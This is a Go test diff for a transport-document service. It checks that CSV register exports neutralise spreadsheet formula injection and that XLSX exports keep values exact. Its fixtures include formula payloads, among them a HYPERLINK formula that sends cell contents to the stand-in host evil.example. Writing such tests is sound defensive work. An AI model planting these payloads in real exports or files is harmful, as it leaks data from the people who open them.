@@ -7,6 +7,7 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -192,6 +193,109 @@ func TestRegisterExportCancel(t *testing.T) {
 		}
 		if c := d.okAs(t, "alice", co+"CancelRegisterExport", map[string]any{"exportId": last}); c["state"] != "DONE" {
 			t.Fatalf("a finished export cancelled: %v", c)
+		}
+	})
+}
+
+// TestRegisterCSVHasNoFormulas (issue 44.4): a transport note's values
+// are written by whoever made the note. ACME (alice) names its producer,
+// carrier and facility with values a spreadsheet would run as formulas,
+// one for each leading character OWASP names (=, +, -, @, tab, carriage
+// return); the carrier (tom, another company) takes the note from its
+// inbox into its store and exports its register as CSV: every such cell
+// is text ("'" before it), the XLSX keeps the values exact.
+func TestRegisterCSVHasNoFormulas(t *testing.T) {
+	parallel(t)
+	dbtest.Each(t, func(t *testing.T, dbcfg configs.Database) {
+		d := startDocs(t, dbcfg)
+		d.workJobs(t)
+		payloads := [][3]string{ // producer, carrier, facility of each note
+			{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "+1+2", "-1+2"},
+			{"@SUM(1+2)", "\t=1+2", "\r=1+2"},
+		}
+		st, tm, raw := d.getAs(t, "alice", "/svc.core.v1.api.DocumentTemplateApi/ExportTransportTemplate?templateId.id=tpl-acme")
+		if st != 200 {
+			t.Fatalf("export template: %d %.300s", st, raw)
+		}
+		taken := map[string]bool{}
+		for i, p := range payloads {
+			note := completeNote()
+			bgs := note["bgs"].(map[string]any)
+			bgs["erzeuger"].(map[string]any)["name"] = inLayer(p[0])
+			bgs["befoerderer"].([]any)[0].(map[string]any)["name"] = inLayer(p[1])
+			bgs["entsorger"].(map[string]any)["name"] = inLayer(p[2])
+			_, x := d.bmuAs(t, "alice", "CreateDocumentFromTemplate", map[string]any{"templateXml": b64(t, tm["document"])})
+			_, x = d.bmuAs(t, "alice", "UpdateDocument", map[string]any{"docXml": x, "document": note})
+			d.okAs(t, "alice", docAPI+"ImportTransportDocument", map[string]any{"document": x})
+			in := d.inbox(t, "tom", nil)
+			if len(in) != i+1 {
+				t.Fatalf("carrier's inbox: %v", in)
+			}
+			var id string
+			for _, e := range in {
+				if !taken[e["id"].(string)] {
+					id = e["id"].(string)
+				}
+			}
+			taken[id] = true
+			st, em, raw := d.getAs(t, "tom", docAPI+"ExportCurrentDocument?docId.id="+id)
+			if st != 200 {
+				t.Fatalf("carrier's export: %d %.200s", st, raw)
+			}
+			_, y := d.bmuAs(t, "tom", "AddLayer", map[string]any{"docXml": b64(t, em["document"]), "layerType": "BEFOERDERER"})
+			_, y = d.bmuAs(t, "tom", "UpdateDocument", map[string]any{"docXml": y, "document": map[string]any{"bgs": map[string]any{
+				"befoerderer": []any{map[string]any{"uebernahmeDatum": inLayer("2026-12-02")}}}}})
+			d.okAs(t, "tom", docAPI+"ImportTransportDocument", map[string]any{"document": y})
+		}
+
+		file, _ := d.exported(t, "tom", co, map[string]any{"from": "2026-12-01", "to": "2026-12-31", "kinds": []string{"BGS"}})
+		rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
+		if err != nil {
+			t.Fatalf("not RFC 4180 CSV: %v", err)
+		}
+		if len(rows) != 1+len(payloads) {
+			t.Fatalf("%d rows: %q", len(rows)-1, rows)
+		}
+		// The XML of a note turns a carriage return into a line feed: the
+		// value arrives as "\n=1+2", quoted as well.
+		arrived := func(v string) string { return strings.ReplaceAll(v, "\r", "\n") }
+		var cells []string
+		for _, r := range rows[1:] {
+			for col, v := range r {
+				if l := strings.TrimLeft(v, " \t\r\n"); l != "" && strings.ContainsRune("=+-@", rune(l[0])) || v != "" && strings.ContainsRune("\t\r", rune(v[0])) {
+					t.Errorf("column %s is a formula: %q", documents.RegisterColumns[col].Key, v)
+				}
+				cells = append(cells, v)
+			}
+		}
+		for _, p := range payloads {
+			for _, v := range p {
+				if !slices.ContainsFunc(cells, func(c string) bool { return strings.HasPrefix(c, "'"+arrived(v)+" [") }) {
+					t.Errorf("%q is not in the CSV as text ('%s); rows %q", v, v, rows[1:])
+				}
+			}
+		}
+
+		// The XLSX export writes cells as text: the values exactly.
+		file, _ = d.exported(t, "tom", co, map[string]any{"from": "2026-12-01", "to": "2026-12-31", "kinds": []string{"BGS"}, "format": "XLSX"})
+		x, err := excelize.OpenReader(bytes.NewReader(file))
+		if err != nil {
+			t.Fatal(err)
+		}
+		sheet, err := x.GetRows("Register")
+		if err != nil {
+			t.Fatal(err)
+		}
+		var xcells []string
+		for _, r := range sheet[1:] {
+			xcells = append(xcells, r...)
+		}
+		for _, p := range payloads {
+			for _, v := range p {
+				if !slices.ContainsFunc(xcells, func(c string) bool { return strings.HasPrefix(c, arrived(v)+" [") }) {
+					t.Errorf("the XLSX lacks %q: %q", v, sheet[1:])
+				}
+			}
 		}
 	})
 }
